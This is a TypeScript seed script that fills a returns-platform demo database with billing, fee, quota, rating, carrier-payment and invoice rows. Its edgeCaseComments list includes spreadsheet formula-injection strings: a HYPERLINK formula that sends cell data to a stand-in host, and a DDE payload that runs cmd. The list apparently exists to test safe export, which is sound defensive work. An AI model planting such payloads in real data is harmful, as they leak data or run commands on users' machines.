// Inserts the demo rows for billing (subscriptions, fee histories, a year of quota use) and for the reports.
import { asc, eq, gt, inArray } from 'drizzle-orm'
import { type BilledService, billedServices, getFeeField } from '#contract/platform/billing.ts'
import type { Database } from '#server/db/database.ts'
import { billingFees, billingQuotas, quotaUse, subscriptions } from '#server/db/schema/platform/ecommerces.ts'
import { billingItems, billings, courierTransfers, feedbacks } from '#server/db/schema/platform/reports.ts'
import { reverses } from '#server/db/schema/platform/reverses.ts'
import { getFirstDayOfMonth, listLastMonths } from '#server/platform/ecommerces/billing.ts'
import { DAY_MS } from './merchants.ts'
import { demoUsers } from './people.ts'
import {
  advanceIdSequence,
  createRandom,
  createWeightedPicker,
  formatCents,
  insertRows,
  MAX_DETAILED_MERCHANTS,
  type Random,
} from './random.ts'
import { demoEcommerceIds, reverseScenarios } from './stories.ts'
import { demoToday } from './today.ts'

/** Seed of a separate random generator, so that changes in this file do not alter the other demo data. */
const BILLING_SEED = 4217
const thisYear = demoToday.getUTCFullYear()

/** Merchants whose id is a multiple of this number have no subscription, no fees and no quota use. */
const UNBILLED_INTERVAL = 12

type Quota = typeof billingQuotas.$inferSelect

export async function seedBilling(db: Database, count: number): Promise<void> {
  const random = createRandom(BILLING_SEED)
  const ids = Array.from({ length: Math.min(count, MAX_DETAILED_MERCHANTS) }, (_, index) => index + 1)
  const billedIds = ids.filter((id) => id % UNBILLED_INTERVAL !== 0)
  await seedLojaAzulQuotas(db)
  const quotas = await db
    .select()
    .from(billingQuotas)
    .where(inArray(billingQuotas.ecommerce_id, billedIds))
    .orderBy(asc(billingQuotas.ecommerce_id), asc(billingQuotas.service_code))
  await insertRows(
    db,
    subscriptions,
    billedIds.map((id) => makeSubscription(random, id)),
  )
  const fees = billedIds.flatMap((id) => billedServices.flatMap((service) => makeFeeHistory(random, id, service)))
  await insertRows(
    db,
    billingFees,
    fees.map((fee, index) => ({ id: index + 1, ...fee })),
  )
  await advanceIdSequence(db, billingFees)
  await insertRows(
    db,
    quotaUse,
    quotas.flatMap((quota) => makeQuotaUse(random, quota)),
  )
}

/** Gives the merchant Loja Azul an exceeded, a sufficient and an unlimited quota. */
async function seedLojaAzulQuotas(db: Database): Promise<void> {
  const ecommerce_id = demoEcommerceIds.lojaAzul
  await db.delete(billingQuotas).where(eq(billingQuotas.ecommerce_id, ecommerce_id))
  await insertRows(db, billingQuotas, [
    { ecommerce_id, service_code: 'reverse.used', monthly_quota: 1200, unlimited_quota: false },
    { ecommerce_id, service_code: 'refund.retained', monthly_quota: 400, unlimited_quota: false },
    { ecommerce_id, service_code: 'order.used', monthly_quota: null, unlimited_quota: true },
  ])
}

function makeSubscription(random: Random, ecommerce_id: number) {
  const day = random.pick(['01', '05', '15', '28'])
  return {
    ecommerce_id,
    frequency_id: random.pick([1, 2, 3, 3, 3, 3]),
    frequency_fee: random.chance(0.05)
      ? '0.00'
      : formatCents(random.between(49, 2499) * 100 + random.pick([0, 90, 99])),
    service_code: 'reverse',
    started_at: `${thisYear + random.between(-4, -1)}-${String(random.between(1, 12)).padStart(2, '0')}-${day}`,
    version: 1,
    created_at: demoToday.toISOString(),
    updated_at: demoToday.toISOString(),
  }
}

const feeAuthors = demoUsers
  .map((user, index) => ({ ...user, id: index + 1 }))
  .filter(({ account_type }) => ['ti', 'cs', 'n2'].includes(account_type))

const comments = [
  '',
  '',
  'Reajuste anual',
  'Negociado com o lojista em reunião de 12/03',
  'Campanha "Volta às aulas": 50% & frete grátis; ver ZD-41877',
  'Aditivo contratual nº 7. Vale até a próxima renovação; qualquer mudança de volume acima de 20 % em dois meses seguidos reabre a negociação com o financeiro do lojista.',
]

/** Creates a history of fees that change every year; for some merchants, the last change is in the future. */
function makeFeeHistory(random: Random, ecommerce_id: number, service_code: BilledService) {
  const isLojaAzul = ecommerce_id === demoEcommerceIds.lojaAzul
  if (!isLojaAzul && random.chance(0.3)) return []
  const firstYear = thisYear + random.between(-4, -1)
  const lastYear = isLojaAzul || random.chance(0.2) ? thisYear + 1 : thisYear
  const month = String(random.between(1, 12)).padStart(2, '0')
  let amount = random.between(9, 99) * 10
  return Array.from({ length: lastYear - firstYear + 1 }, (_, year) => {
    const author = random.pick(feeAuthors)
    const start_at = `${firstYear + year}-${year === 0 ? month : '01'}-01`
    amount = Math.round(amount * (1 + random.between(0, 12) / 100))
    const fee = { fixed_fee: null as string | null, variable_fee: null as string | null }
    fee[getFeeField(service_code)] = formatCents(getFeeField(service_code) === 'fixed_fee' ? amount : amount % 500)
    return {
      ...{ ecommerce_id, service_code, start_at, ...fee },
      comments: random.pick(comments),
      user_id: author.id,
      user_name: `${author.first_name} ${author.last_name}`,
      created_at: demoToday.toISOString(),
    }
  })
}

/** Expected use in the current month so far, as a fraction of the use in a full month. */
const CURRENT_MONTH_SHARE = 0.53

function makeQuotaUse(random: Random, { ecommerce_id, service_code, monthly_quota }: Quota) {
  const exceedsQuota =
    ecommerce_id === demoEcommerceIds.lojaAzul ? service_code === 'reverse.used' : random.chance(0.25)
  if (ecommerce_id !== demoEcommerceIds.lojaAzul && random.chance(0.15)) return []
  const usualUse = (monthly_quota ?? random.between(2, 90) * 100) * (exceedsQuota ? 0.95 : 0.6)
  const months = listLastMonths(demoToday)
  // Uses a higher factor for the merchant Loja Azul, so that its quota is exceeded before the end of the current month.
  const currentMonthFactor = exceedsQuota && ecommerce_id === demoEcommerceIds.lojaAzul ? 1.4 : CURRENT_MONTH_SHARE
  return months.map((month, index) => ({
    ecommerce_id,
    service_code,
    month: getFirstDayOfMonth(month),
    used: Math.round(
      usualUse * (random.between(75, 135) / 100) * (index === months.length - 1 ? currentMonthFactor : 1),
    ),
  }))
}

/** Seed of a separate random generator, so that changes in this file do not alter the other demo data. */
const REPORT_SEED = 7741
/** Maximum number of merchants with report data, so that a large demo loads in acceptable time. */
const MAX_MERCHANTS_WITH_REPORTS = 300
const MAX_BILLED_MERCHANTS = 60
const firstMonth = { year: thisYear - 2, month: 1 }

/** Number of reverses (return requests) per query; a million rows at once would exceed the memory. */
const REVERSES_PER_QUERY = 20_000

type Reverse = Pick<
  typeof reverses.$inferSelect,
  'id' | 'ecommerce_id' | 'status' | 'tracking_code' | 'created_at' | 'updated_at'
>

/** Inserts the rows of the reports: ratings of consumers, payments to carriers, and almost three years of bills. */
export async function seedReports(db: Database, merchantCount: number): Promise<void> {
  const random = createRandom(REPORT_SEED)
  const ids = Array.from({ length: Math.min(merchantCount, MAX_MERCHANTS_WITH_REPORTS) }, (_, index) => index + 1)
  for await (const rows of readReverses(db)) {
    await insertRows(db, feedbacks, makeFeedbacks(random, rows))
    await insertRows(
      db,
      courierTransfers,
      rows.flatMap((reverse) => makeCarrierPayments(random, reverse)),
    )
  }
  await seedBillings(db, random, ids.slice(0, MAX_BILLED_MERCHANTS))
}

/** Reads all reverses (return requests) in batches, ordered by id. */
async function* readReverses(db: Database): AsyncGenerator<readonly Reverse[]> {
  const { id, ecommerce_id, status, tracking_code, created_at, updated_at } = reverses
  for (let lastId = 0; ; ) {
    const rows: readonly Reverse[] = await db
      .select({ id, ecommerce_id, status, tracking_code, created_at, updated_at })
      .from(reverses)
      .where(gt(id, lastId))
      .orderBy(asc(id))
      .limit(REVERSES_PER_QUERY)
    yield rows
    if (rows.length < REVERSES_PER_QUERY) return
    lastId = rows.at(-1)?.id ?? 0
  }
}

/** Statuses of reverses whose items the merchant has received. */
const receivedStatuses: ReadonlySet<string | null> = new Set([
  'completed',
  'done',
  'partially_completed',
  'almost_done',
])

const praise = [
  '',
  '',
  '',
  '',
  '',
  'Muito rápido, recomendo!',
  'Tudo certo.',
  'nota 10 👏👏',
  'Reembolso caiu antes do prazo 🙂',
]
const remarks = [
  ...['', '', '', '', 'Tudo certo.', 'O código de postagem demorou três dias para chegar.'],
  'Gostei da troca, mas a etiqueta veio com o endereço errado; precisei ligar.',
]
const complaints = [
  ...['', '', 'Péssimo.', 'Coleta não apareceu 2 vezes', 'A loja física não sabia receber a devolução.'],
  'O código de postagem demorou três dias para chegar.',
]

/** Picks a random consumer rating from 0 to 10; high ratings are more frequent. */
const pickScore = createWeightedPicker([
  ...([
    [10, 40],
    [9, 19],
    [8, 13],
    [7, 8],
    [6, 4],
    [5, 4],
  ] as const),
  ...([
    [4, 2],
    [3, 2],
    [2, 2],
    [1, 2],
    [0, 4],
  ] as const),
])

/** Consumer comments that a spreadsheet would execute, misread or split into columns, and a very long comment. */
const edgeCaseComments = [
  '=HYPERLINK("http://malicioso.example/?q="&A1;"Clique para ver o reembolso")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+55 11 99999-0000 é o meu telefone',
  '-10% de desconto no cupom; "prometido" no chat',
  '-5',
  '00042',
  'Primeira linha\nsegunda linha;\r\n"terceira"',
  '\tcomeça com tabulação',
  `Longa história: ${'o produto veio, foi, voltou e ninguém avisou. '.repeat(40)}`,
]

function makeFeedbacks(random: Random, rows: readonly Reverse[]) {
  const scenarioIds = Object.values(reverseScenarios).map(({ id }): number => id)
  return rows.flatMap((reverse) => {
    const comment = edgeCaseComments[scenarioIds.indexOf(reverse.id)]
    if (comment !== undefined) return [makeFeedback(random, reverse, comment)]
    return receivedStatuses.has(reverse.status) && random.chance(0.3) ? [makeFeedback(random, reverse)] : []
  })
}

/** Creates a consumer's rating of a return, written within four days after the last change of the reverse. */
function makeFeedback(random: Random, { id, ecommerce_id, updated_at }: Reverse, scenarioComment?: string) {
  const score = pickScore(random)
  const comment = scenarioComment ?? random.pick(score > 8 ? praise : score > 5 ? remarks : complaints)
  const createdAt = Math.min(updated_at.getTime() + random.between(1, 96) * 3_600_000, demoToday.getTime())
  return { reverse_id: id, ecommerce_id, score, comment, created_at: new Date(createdAt).toISOString() }
}

const carriers = [
  { carrier: 'Correios', services: ['PAC Reverso', 'SEDEX Reverso'] },
  { carrier: 'Jadlog', services: ['.Package', 'Pickup'] },
  { carrier: 'Loggi', services: ['Expresso'] },
  { carrier: 'Braspress', services: ['Rodoviário "porta a porta"; até 30 kg'] },
] as const

/**
 * Creates the payment (transfer) to a carrier for a reverse, dated some weeks after the reverse. Returns an empty array
 * if there is no freight, or if the payment would be in the future.
 */
function makeCarrierPayments(random: Random, { id, ecommerce_id, status, tracking_code, created_at }: Reverse) {
  const hasFreight = receivedStatuses.has(status) || status === 'shipped' || status === 'delivered'
  const transferredAt = created_at.getTime() + random.between(10, 40) * DAY_MS
  if (tracking_code === null || !hasFreight || transferredAt > demoToday.getTime() || random.chance(0.15)) return []
  const { carrier, services } = random.chance(0.6) ? carriers[0] : random.pick(carriers)
  const freight = random.between(1290, 8990)
  return [
    {
      ...{ ecommerce_id, reverse_id: id, carrier, service: random.pick<string>(services), tracking_code },
      freight: formatCents(freight),
      amount: formatCents(Math.round(freight * (random.between(70, 92) / 100))),
      transferred_on: new Date(transferredAt).toISOString().slice(0, 10),
      created_at: demoToday.toISOString(),
    },
  ]
}

async function seedBillings(db: Database, random: Random, ids: readonly number[]): Promise<void> {
  const billingRows = ids
    .flatMap((id) => (id % 12 === 0 ? [] : makeBillings(random, id)))
    .map((billing, index) => ({ id: index + 1, ...billing }))
  await insertRows(db, billings, billingRows)
  await advanceIdSequence(db, billings)
  await insertRows(
    db,
    billingItems,
    billingRows.flatMap((billing) => makeBillingItems(random, billing)),
  )
}

/** Creates the monthly bills of a merchant up to the current month. */
function makeBillings(random: Random, ecommerce_id: number) {
  const lastMonthIndex = demoToday.getUTCFullYear() * 12 + demoToday.getUTCMonth()
  const firstMonthIndex =
    firstMonth.year * 12 +
    firstMonth.month -
    1 +
    (ecommerce_id === demoEcommerceIds.lojaAzul ? 0 : random.between(0, 18))
  return Array.from({ length: lastMonthIndex - firstMonthIndex + 1 }, (_, index) => {
    const [year, month] = [Math.floor((firstMonthIndex + index) / 12), (firstMonthIndex + index) % 12]
    const formatDate = (monthOffset: number, dayOfMonth: number) =>
      new Date(Date.UTC(year, month + monthOffset, dayOfMonth)).toISOString().slice(0, 10)
    return {
      ecommerce_id,
      started_at: formatDate(0, 1),
      ended_at: formatDate(1, 0),
      created_at: demoToday.toISOString(),
    }
  })
}

const services = [
  { service_code: 'reverse.used', description: 'Reversas acima da cota', chance: 0.8, minCents: 120, maxCents: 890 },
  {
    service_code: 'refund.retained',
    description: 'Taxa sobre o valor retido; "retenção"',
    chance: 0.6,
    minCents: 40,
    maxCents: 2900,
  },
  { service_code: 'order.used', description: 'Pedidos acima da cota', chance: 0.3, minCents: 15, maxCents: 75 },
] as const

function makeBillingItems(random: Random, { id }: { readonly id: number }) {
  return services
    .filter((service) => random.chance(service.chance))
    .map(({ service_code, description, minCents, maxCents }) => {
      const quantity = random.between(1, 400)
      const cents = random.between(minCents, maxCents)
      return {
        ...{ billing_id: id, service_code, description, quantity, unit_price: formatCents(cents) },
        ...{ amount: formatCents(cents * quantity), created_at: demoToday.toISOString() },
      }
    })
}
